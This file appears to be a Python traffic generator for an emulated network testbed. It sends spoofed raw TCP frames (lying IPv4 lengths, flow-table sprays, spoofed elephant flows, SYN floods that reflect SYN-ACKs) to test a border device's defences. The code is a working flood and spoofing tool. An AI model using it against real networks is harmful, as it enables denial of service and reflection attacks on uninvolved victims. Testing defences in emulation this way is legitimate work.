"""Hostile traffic for `make attack`, sent as raw frames from inside a Mininet node.

python3 -m emulation.flood KIND IFACE SRC_MAC DST_MAC DST DPORT RATE SECONDS

Runs in an upstream router's namespace, on its port toward the border: what a
directly connected peer (or anything an upstream lets through) can send. A
Linux router in between would drop the lying frames itself, and the border
must not rely on one being there. Prints one JSON line:
{"sent": N, "seconds": S}.

Kinds:
  claimed-length  60-byte TCP frames with DF whose IPv4 header claims 8500
                  bytes, from spoofed sources in many /24s, to DST:DPORT. On
                  a border that trusted the claim they would feed the
                  elephant sketch ~140x cheaper than real bytes and, toward a
                  1500-byte instance, each would make an ICMP error to a
                  spoofed victim.
  spray           full-size TCP segments (valid checksums, random sequence
                  numbers) of thousands of spoofed flows to DST:DPORT: churns
                  the SmartNIC's flow table and tries, blind, for collisions
                  with a real flow.
  elephants       full-size TCP segments that tell the truth about their
                  length, ELEPHANT_RUN in a row per spoofed flow: every flow
                  pays for its bytes and still becomes an elephant, so the
                  controller's admission limits are all that keeps the
                  switch's merge_flows table and the operator's onloads safe.
  syns            minimal TCP SYNs (60-byte frames) from spoofed sources to
                  DST:DPORT, an open port: each draws a SYN-ACK from the
                  instance toward a victim, through the SmartNIC. On a border
                  that probed every new destination of outbound TCP, each
                  SYN-ACK started a probe round at the victim.

The JSON line also says how many bytes of frames were sent ("bytes").
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time

POOL = 2048  # distinct frames, sent round-robin
ELEPHANT_FLOWS = 256
ELEPHANT_RUN = 25  # segments per flow in a row: 36 KB, past a 30000-byte threshold
CLAIMED_LENGTH = 8500


def _mac(text: str) -> bytes:
    return bytes(int(part, 16) for part in text.split(":"))


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _spoofed_source(rng: random.Random) -> bytes:
    # 198.18.0.0/15 (benchmarking): never a real network, nor the rack's.
    return bytes([198, rng.choice((18, 19)), rng.randrange(256), rng.randrange(1, 255)])


def claimed_length_frames(src_mac: bytes, dst_mac: bytes, dst: str, dport: int, rng: random.Random) -> list[bytes]:
    frames = []
    for _ in range(POOL):
        tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), dport, rng.getrandbits(32), 0, 5 << 4, 0x10, 65535, 0, 0)
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, CLAIMED_LENGTH, rng.getrandbits(16), 0x4000, 64, 6, 0, _spoofed_source(rng), socket.inet_aton(dst))
        header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
        frames.append((dst_mac + src_mac + b"\x08\x00" + header + tcp).ljust(60, b"\0"))
    return frames


def spray_frames(src_mac: str, dst_mac: str, dst: str, dport: int, rng: random.Random) -> list[bytes]:
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether

    payload = bytes(1460)
    return [
        bytes(
            Ether(src=src_mac, dst=dst_mac)
            / IP(src=socket.inet_ntoa(_spoofed_source(rng)), dst=dst, flags="DF", id=rng.getrandbits(16))
            / TCP(sport=rng.randrange(1024, 65536), dport=dport, flags="A", seq=rng.getrandbits(32), ack=1, window=65535)
            / payload
        )
        for _ in range(POOL)
    ]


def elephant_frames(src_mac: str, dst_mac: str, dst: str, dport: int, rng: random.Random) -> list[bytes]:
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether

    payload = bytes(1460)
    frames = []
    for _ in range(ELEPHANT_FLOWS):
        src, sport, seq = socket.inet_ntoa(_spoofed_source(rng)), rng.randrange(1024, 65536), rng.getrandbits(32)
        for n in range(ELEPHANT_RUN):
            segment = IP(src=src, dst=dst, flags="DF", id=n) / TCP(sport=sport, dport=dport, flags="A", seq=(seq + n * 1460) & 0xFFFFFFFF, ack=1, window=65535)
            frames.append(bytes(Ether(src=src_mac, dst=dst_mac) / segment / payload))
    return frames


def syn_frames(src_mac: bytes, dst_mac: bytes, dst: str, dport: int, rng: random.Random) -> list[bytes]:
    frames = []
    for _ in range(POOL):
        src = _spoofed_source(rng)
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, rng.getrandbits(16), 0x4000, 64, 6, 0, src, socket.inet_aton(dst))
        header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
        tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), dport, rng.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
        pseudo = src + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
        frames.append((dst_mac + src_mac + b"\x08\x00" + header + tcp).ljust(60, b"\0"))
    return frames


def flood(iface: str, frames: list[bytes], rate: float, seconds: float) -> tuple[int, float]:
    """Send frames round-robin at `rate` per second for `seconds`; returns (sent, elapsed).

    A frame the kernel refuses (a full transmit queue) is not counted: the
    border is judged on what it was actually sent."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    attempts = sent = 0
    start = time.monotonic()
    deadline = start + seconds
    while (now := time.monotonic()) < deadline:
        due = int((now - start) * rate)
        while attempts < due:
            try:
                sock.send(frames[attempts % len(frames)])
                sent += 1
            except OSError:
                pass
            attempts += 1
        time.sleep(0.001)  # then the next millisecond's worth
    sock.close()
    return sent, time.monotonic() - start


def main(argv: list[str]) -> int:
    if len(argv) != 8 or argv[0] not in ("claimed-length", "spray", "elephants", "syns"):
        print(__doc__, file=sys.stderr)
        return 2
    kind, iface, src_mac, dst_mac, dst, dport, rate, seconds = argv
    rng = random.Random()
    if kind == "claimed-length":
        frames = claimed_length_frames(_mac(src_mac), _mac(dst_mac), dst, int(dport), rng)
    elif kind == "spray":
        frames = spray_frames(src_mac, dst_mac, dst, int(dport), rng)
    elif kind == "syns":
        frames = syn_frames(_mac(src_mac), _mac(dst_mac), dst, int(dport), rng)
    else:
        frames = elephant_frames(src_mac, dst_mac, dst, int(dport), rng)
    sent, elapsed = flood(iface, frames, float(rate), float(seconds))
    sizes = [len(frame) for frame in frames]
    sent_bytes = sum(sizes) * (sent // len(frames)) + sum(sizes[: sent % len(frames)])
    print(json.dumps({"sent": sent, "bytes": sent_bytes, "seconds": round(elapsed, 3)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
